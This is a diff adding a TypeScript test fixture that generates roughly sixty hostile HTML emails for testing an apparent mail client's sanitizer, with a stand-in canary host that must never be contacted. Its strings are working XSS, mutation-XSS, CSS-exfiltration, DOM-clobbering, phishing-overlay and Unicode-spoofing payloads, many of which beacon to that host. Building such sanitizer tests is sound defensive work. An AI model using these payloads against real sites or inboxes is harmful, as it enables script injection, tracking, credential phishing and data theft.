@@ -1,0 +1,70 @@
+/**
+ * HTML that tries, one thing at a time; `at` is a server that must never be reached. Whatever runs sets `hacked` or asks
+ * for `at`. Each ends with words that have to be readable, unless the mail swallows them by itself.
+ */
+export type HostileMail = { readonly name: string; readonly html: string }
+
+export function hostileMails(at: string): readonly HostileMail[] {
+  const run = `parent.hacked=1;top.hacked=1;hacked=1;new Image().src='${at}/ran'`
+  const host = at.replace('http:', '')
+  const tries: Readonly<Record<string, string>> = {
+    'a script': `<script>${run}</script>`,
+    'a script from elsewhere': `<script src="${at}/x.js"></script><script type="module" src="${at}/m.js"></script>`,
+    'a script in pieces': `<scr<script>ipt>${run}</scr</script>ipt><ScRiPt\n>${run}</sCrIpT >`,
+    'rules that load ahead': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at}/ahead"]}]}</script>`,
+    'a map of imports': `<script type="importmap">{"imports":{"x":"${at}/x.js"}}</script>`,
+    'handlers on a picture': `<img src=x onerror="${run}"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${run}">`,
+    'handlers that wait for a look': `<details open ontoggle="${run}"><summary>s</summary></details><input autofocus onfocus="${run}"><div onpointerover="${run}" style="width:600px">over</div>`,
+    'handlers of the body': `<body onload="${run}" onpageshow="${run}" background="${at}/body.png">`,
+    'handlers after odd signs': `<img/src="x"/onerror=${JSON.stringify(run)}><img src=x\u000conerror="${run}"><p/onclick="${run}">x`,
+    'a form': `<form action="${at}/form" method="post"><input name="q" value="secret"><button formaction="${at}/button">Send</button><input type="image" src="${at}/i.png"></form>`,
+    'a form that sends itself': `<form id="f" action="${at}/self"><input type="submit" autofocus onfocus="this.form.submit()"></form>`,
+    'pictures from elsewhere': `<img src="${at}/a.png"><img src="${host}/b.png"><img srcset="${at}/c.png 1x, ${at}/d.png 2x"><img lowsrc="${at}/l.png" dynsrc="${at}/y.avi"><image src="${at}/e.png">`,
+    'a choice of pictures': `<picture><source srcset="${at}/s.png"><img src="${at}/t.png"></picture>`,
+    'films and sound': `<video src="${at}/v.mp4" poster="${at}/p.png" autoplay><source src="${at}/w.mp4"><track src="${at}/t.vtt" default></video><audio src="${at}/a.mp3" autoplay></audio><bgsound src="${at}/b.wav">`,
+    'a sheet of styles': `<link rel="stylesheet" href="${at}/a.css"><link\trel=stylesheet\thref=${at}/t.css><link rel="icon" href="${at}/f.ico">`,
+    'loading ahead': `<link rel="prefetch" href="${at}/p"><link rel="preload" as="image" href="${at}/q"><link rel="dns-prefetch" href="${at}"><link rel="preconnect" href="${at}"><link rel="modulepreload" href="${at}/m.js"><link rel="prerender" href="${at}/r">`,
+    'styles that import': `<style>@import url(${at}/i.css);@import "${at}/j.css";@\\69mport u\\72l(${at}/k.css);body{background:url(${at}/b.png)}@font-face{font-family:x;src:url(${at}/f.woff2)}p{font-family:x}</style>`,
+    'styles in other words': `<style><!--@import '${at}/c.css';--></style><style>/*<![CDATA[*/p{background:image-set(url(${at}/s.png) 1x)}/*]]>*/</style>`,
+    'a background by style': `<p style="background:url(${at}/b.png)">a</p><p style="background-image:image-set('${at}/s.png' 1x)">b</p><p style="background:#fff url('${at}/c.png') fixed">c</p>`,
+    'a background by escapes': `<p style="backgr\\6fund:u\\72l(${at}/e.png)">a</p><p style="back/**/ground:url(${at}/f.png)">b</p><p style="background:\\75\\72\\6c(&quot;${at}/g.png&quot;)">c</p><p style="--x:url(${at}/v.png);background:var(--x)">d</p>`,
+    'a background by attribute': `<table background="${at}/t.png"><tr background="${at}/r.png"><td background="${at}/d.png">x</td></tr></table>`,
+    'styles that load in passing': `<ul style="list-style:url(${at}/l.png)"><li>x</li></ul><p style="border-image:url(${at}/b.png) 30;cursor:url(${at}/c.cur),auto;content:url(${at}/n.png);filter:url(${at}/f.svg#x);mask:url(${at}/m.png);-webkit-mask-image:url(${at}/w.png);clip-path:url(${at}/p.svg#c);shape-outside:url(${at}/s.png);float:left">x</p>`,
+    'styles of old browsers': `<p style="width:expression(${run});behavior:url(${at}/b.htc);-moz-binding:url(${at}/x.xml#x)">x</p>`,
+    'a sheet over everything': `<div style="position:fixed;inset:0;z-index:2147483647;background:red">Your session has ended. <a href="${at}/phish">Sign in</a></div><div style="position:absolute;top:-500px;margin-top:-900px;transform:translateY(-900px)">up</div>`,
+    'no end of size': `<div style="width:9999999px;height:99999999px;padding:9999999px">big</div><img width="99999999" height="99999999"><table height="9999999" width="9999999"><tr><td rowspan="65534" colspan="1000">x</td></tr></table><font size="99999999">x</font>`,
+    'the height of its frame': `<div style="height:100vh;min-height:200vmax;padding-top:100cqh">tall</div>`,
+    movement: `<marquee scrollamount="9999" onstart="${run}">moving</marquee><style>@keyframes k{to{background:url(${at}/k.png)}}</style><p style="animation:k 1s infinite;transition:all 1s">x</p>`,
+    'going somewhere else': `<meta http-equiv="refresh" content="0;url=${at}/refresh"><meta http-equiv=refresh content="0;url=javascript:${run}"><meta http-equiv="Set-Cookie" content="a=b">`,
+    'another base': `<base href="${at}/base/" target="_top"><img src="rel.png"><a href="rel.html">relative</a>`,
+    frames: `<iframe src="${at}/f"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frameset><frame src="${at}/g"></frameset><iframe src="javascript:${run}"></iframe>`,
+    'frames of a new kind': `<portal src="${at}/p"></portal><fencedframe src="${at}/q"></fencedframe><webview src="${at}/w"></webview>`,
+    objects: `<object data="${at}/o.swf"><param name="movie" value="${at}/m.swf"></object><embed src="${at}/e.svg"><applet code="X" archive="${at}/a.jar"></applet><object data="data:text/html,<script>${run}</script>"></object>`,
+    'links that run': `<a href="javascript:${run}">a</a> <a href="JaVaScRiPt:${run}">b</a> <a href="java\tscript:${run}">c</a> <a href="&#1;javascript:${run}">d</a> <a href="&#106;avascript&colon;${run}">e</a> <a href="vbscript:msgbox(1)">f</a>`,
+    'links that are documents': `<a href="data:text/html,<script>${run}</script>">a</a> <a href="blob:${at}/1">b</a> <a href="file:///etc/passwd">c</a> <a href="smb://host/share">d</a> <a href="ms-msdt:/id">e</a> <a href="about:blank">f</a>`,
+    'links that tell': `<a href="${at}/go" ping="${at}/ping" target="_top" download attributionsrc="${at}/attr">go</a><map name="m"><area href="javascript:${run}" shape="default"></map><img usemap="#m" src="${at}/map.png">`,
+    'a drawing': `<svg onload="${run}"><script>${run}</script><image href="${at}/i.png" xlink:href="${at}/x.png"/><use href="${at}/u.svg#x"/><filter id="f"><feImage href="${at}/fe.png"/></filter><style>@import url(${at}/s.css)</style><a href="javascript:${run}"><text y="20">x</text></a><animate onbegin="${run}" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:${run}"/></svg>`,
+    'a page inside a drawing': `<svg><foreignObject width="100" height="100"><iframe src="${at}/fo"></iframe><body onload="${run}"><img src="${at}/fo.png"></foreignObject></svg>`,
+    'a drawing by address': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><image href='${at}/d.png'/></svg>"><embed src="data:image/svg+xml;base64,PHN2Zz4=">`,
+    formulas: `<math href="javascript:${run}"><mtext><img src="${at}/m.png" onerror="${run}"></mtext><annotation-xml encoding="text/html"><iframe src="${at}/an"></iframe></annotation-xml><maction actiontype="statusline#${at}">x</maction></math>`,
+    'a formula that is read twice': `<form><math><mtext></form><form><mglyph><style></math><img src="${at}/twice.png" onerror="${run}">`,
+    'a drawing that is read twice': `<svg></p><style><a id="</style><img src=${at}/svg-twice.png onerror=${JSON.stringify(run)}>">`,
+    'a table that is read twice': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${at}/t2.png onerror=${run}&gt;">`,
+    'words for browsers without scripts': `<noscript><p title="</noscript><img src=${at}/ns.png onerror='${run}'>"></noscript><noembed><img src="${at}/ne.png"></noembed><noframes><img src="${at}/nf.png"></noframes>`,
+    'templates and shadows': `<template><img src="${at}/tp.png" onerror="${run}"></template><div><template shadowrootmode="open"><img src="${at}/sh.png"><style>@import url(${at}/sh.css)</style></template></div><slot name="x"></slot>`,
+    'what holds raw text': `<textarea></textarea><img src=${at}/ta.png></textarea><title></title><img src=${at}/ti.png></title><xmp></xmp><img src=${at}/xm.png></xmp><listing><img src=${at}/li.png></listing>`,
+    'comments that end early': `<!--><img src="${at}/c1.png" onerror="${run}">--><!--!><img src="${at}/c2.png">--!><img src="${at}/c3.png"><![CDATA[><img src="${at}/c4.png">]]><?xml ?><img src="${at}/c5.png">`,
+    'words for one mail program': `<!--[if mso]><img src="${at}/mso.png"><![endif]--><!--[if !mso]><!--><img src="${at}/notmso.png"><!--<![endif]--><v:fill src="${at}/vml.png"/><o:p>x</o:p>`,
+    'names of things of the page': `<a id="postdesk" name="bridge" href="${at}/clobber">x</a><form id="body"><input name="parentNode"><input name="attributes"></form><img name="getElementById"><img id="cookie">`,
+    'targets and history': `<a id="x" href="#x">a</a><a href="#/settings">b</a><style>:target{background:url(${at}/t.png)}</style><p id="root">root</p>`,
+    'things that open': `<dialog open><img src="${at}/dl.png"></dialog><div popover="auto" id="p"><img src="${at}/po.png"></div><button popovertarget="p" autofocus>open</button><select><option>x</select>`,
+    'what leads out of the document': `</body></html><html manifest="${at}/m"><head><link rel="stylesheet" href="${at}/o.css"></head><body><img src="${at}/after.png"></body></html>`,
+    'a picture of another mail': `<img data-attachment="../../1"><img data-attachment="a1' onerror='${run}"><img data-part="0"><img data-part="99999999999"><img data-picture="0" data-link="0" src="${at}/p.png">`,
+    'what the screens say themselves': `<a data-link="0" data-misleading class="mantine-Button-root" title="Save" href="${at}/own">x</a><p class="mail-hotspot" role="dialog" aria-label="Postdesk" tabindex="1">x</p>`,
+    'letters that run backwards': `<p>\u202egnp.exe\u202c \u2066isolated <a href="https://example.org/\u202egnp.exe">\u202eelpmaxe</a></p>`,
+    'zero bytes and odd names': `<img\u0000src="${at}/z.png"><im\u0000g src="${at}/y.png"><scr\u0000ipt>${run}</scr\u0000ipt><a\u0000 href="javascript:${run}">x</a>`,
+    'a thousand boxes in boxes': `${'<div>'.repeat(1_000)}deep${'</div>'.repeat(1_000)}`,
+    'text to the end': `<plaintext><img src="${at}/pt.png" onerror="${run}">`,
+  }
+  return Object.entries(tries).map(([name, html]) => ({ name, html: `<p>Words before.</p>${html}` }))
+}
